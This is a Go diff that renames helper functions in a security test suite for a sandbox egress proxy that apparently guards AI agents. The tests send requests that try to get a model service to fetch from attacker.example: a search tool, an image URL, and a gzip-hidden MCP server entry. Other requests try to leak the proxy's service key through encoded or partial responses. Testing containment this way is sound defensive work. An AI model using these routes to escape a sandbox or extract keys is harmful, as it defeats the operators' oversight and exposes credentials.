@@ -24,7 +24,7 @@ func serviceAttacks() []Attack {
 		{Name: "service/its own tools for reaching the internet", Brief: true, Make: func(s *Suite) {
 			var mu sync.Mutex
 			var arrived []string
-			r, at := s.served(func(w http.ResponseWriter, q *http.Request) {
+			r, at := s.openServed(func(w http.ResponseWriter, q *http.Request) {
 				body, err := io.ReadAll(q.Body)
 				if err != nil {
 					return // an aborted request does not count
@@ -44,13 +44,13 @@ func serviceAttacks() []Attack {
 				`{"tools":[{"google_search":{}}]}`,
 				`{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/secret"}}]}]}`,
 			} {
-				r.ask(at+"/v1/messages", body, "Content-Type: application/json")
+				r.httpRequest(at+"/v1/messages", body, "Content-Type: application/json")
 			}
 			var packed bytes.Buffer
 			zip := gzip.NewWriter(&packed)
 			_, _ = zip.Write([]byte(`{"mcp_servers":[{"url":"https://attacker.example"}]}`))
 			_ = zip.Close()
-			r.ask(at+"/v1/messages", packed.String(), "Content-Type: application/json", "Content-Encoding: gzip")
+			r.httpRequest(at+"/v1/messages", packed.String(), "Content-Type: application/json", "Content-Encoding: gzip")
 			mu.Lock()
 			defer mu.Unlock()
 			for _, body := range arrived {
@@ -71,7 +71,7 @@ func serviceAttacks() []Attack {
 				"percent": strings.ReplaceAll(url.QueryEscape(serviceKey), "k", "%6B"),
 				"json":    strings.ReplaceAll(serviceKey, "k", `\u006b`),
 			}
-			r, at := s.served(func(w http.ResponseWriter, q *http.Request) {
+			r, at := s.openServed(func(w http.ResponseWriter, q *http.Request) {
 				text := []byte("the key is " + forms[q.URL.Query().Get("form")] + ".")
 				w.Header().Set("X-Reflected", q.Header.Get("Authorization"))
 				if q.URL.Query().Get("form") == "gzip" {
@@ -87,14 +87,14 @@ func serviceAttacks() []Attack {
 				return
 			}
 			for form, text := range forms {
-				if out := r.ask(at+"/v1/models?form="+form, ""); strings.Contains(out, text) || strings.Contains(out, serviceKey) {
+				if out := r.httpRequest(at+"/v1/models?form="+form, ""); strings.Contains(out, text) || strings.Contains(out, serviceKey) {
 					s.Errorf("the key comes back (%s)", form)
 				}
 			}
-			if out := r.ask(at+"/v1/models?form=gzip", ""); strings.Contains(out, serviceKey) {
+			if out := r.httpRequest(at+"/v1/models?form=gzip", ""); strings.Contains(out, serviceKey) {
 				s.Errorf("the key comes back (gzip)")
 			}
-			if out := r.ask(at+"/v1/models?form=plain", "", "Range: bytes=14-"); strings.Contains(out, serviceKey[3:]) {
+			if out := r.httpRequest(at+"/v1/models?form=plain", "", "Range: bytes=14-"); strings.Contains(out, serviceKey[3:]) {
 				s.Errorf("the key comes back (a part of the answer)")
 			}
 			r.Works()
@@ -102,13 +102,13 @@ func serviceAttacks() []Attack {
 	}
 }
 
-// served opens a sandbox with an endpoint for a model's service, and returns its URL inside. The room is nil if the
+// openServed opens a sandbox with an endpoint for a model's service, and returns its URL inside. The room is nil if the
 // provider does not use ralph's proxy.
-func (s *Suite) served(answer http.HandlerFunc) (*Room, string) {
+func (s *Suite) openServed(answer http.HandlerFunc) (*Room, string) {
 	s.Helper()
 	server := httptest.NewServer(answer)
 	s.Cleanup(server.Close)
-	r, proxy := s.proxied(egress.Config{Endpoints: []egress.Endpoint{{
+	r, proxy := s.openProxied(egress.Config{Endpoints: []egress.Endpoint{{
 		Name: "model", Upstream: server.URL, AllowPrivate: true, Model: true,
 		Secret: func(context.Context) (string, error) { return serviceKey, nil },
 	}}})
